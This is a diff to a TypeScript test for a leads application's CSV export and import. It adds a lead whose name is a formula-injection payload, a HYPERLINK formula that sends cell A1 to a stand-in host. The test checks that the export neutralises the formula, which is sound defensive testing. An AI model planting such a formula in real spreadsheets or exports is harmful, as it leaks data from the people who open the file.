@@ -80,16 +80,21 @@ describe("CSV import", () => {
         email: "ann@example.test",
         source: "facebook",
       },
+      // A name a WhatsApp user chose: exported so a spreadsheet does not run it, imported back as typed.
+      { firstName: '=HYPERLINK("http://x.test/?"&A1,"click")', lastName: "@sum", phone: uniquePhone() },
     ];
     for (const lead of originals) expect((await source.agent.request("POST", "/api/leads", lead)).status).toBe(201);
     const exported = await (await source.admin.request("GET", "/api/leads/export")).arrayBuffer();
+    const exportedText = new TextDecoder().decode(exported);
+    expect(exportedText).toContain(`"'=HYPERLINK(""http://x.test/?""&A1,""click"")"`);
+    expect(exportedText).not.toMatch(/(^|,)"?=HYPERLINK/m);
 
     const target = await createTenant(db, "Round trip target");
     const preview = await target.admin.request("POST", "/api/leads/import/preview", new Uint8Array(exported), CSV);
     expect(preview.status).toBe(200);
-    expect(await preview.json()).toMatchObject({ totalRows: 2, validRows: 2, newLeads: 2, errorCount: 0 });
+    expect(await preview.json()).toMatchObject({ totalRows: 3, validRows: 3, newLeads: 3, errorCount: 0 });
     const commit = await target.admin.request("POST", "/api/leads/import/commit", new Uint8Array(exported), CSV);
-    expect(await commit.json()).toMatchObject({ totalRows: 2, created: 2, merged: 0, failed: 0 });
+    expect(await commit.json()).toMatchObject({ totalRows: 3, created: 3, merged: 0, failed: 0 });
 
     const list = (await (await target.owner.request("GET", "/api/leads?order=asc")).json()) as {
       leads: {
